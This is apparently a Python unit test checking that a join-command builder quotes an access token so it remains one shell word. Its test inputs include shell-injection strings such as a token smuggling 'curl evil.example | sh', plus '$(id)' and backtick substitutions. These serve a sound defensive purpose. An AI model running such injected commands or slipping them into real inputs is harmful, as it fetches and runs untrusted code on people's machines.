"""The lines that people paste into a shell."""

import shlex

from coderd.api.joining import join_line
from coderd.config.url import parse_server_url

URL = parse_server_url("https://coder.example")


def test_a_token_is_one_word_in_a_shell_whatever_it_is() -> None:
    for token in ("cdrw_x; curl evil.example | sh", "$(id)", "x\n id", "'", "`id`"):
        assert shlex.split(join_line(URL, token))[:3] == ["echo", token, "|"]
    assert join_line(URL, "cdrw_aB-9_").startswith("echo cdrw_aB-9_ | sudo coderd run --access-url https://")
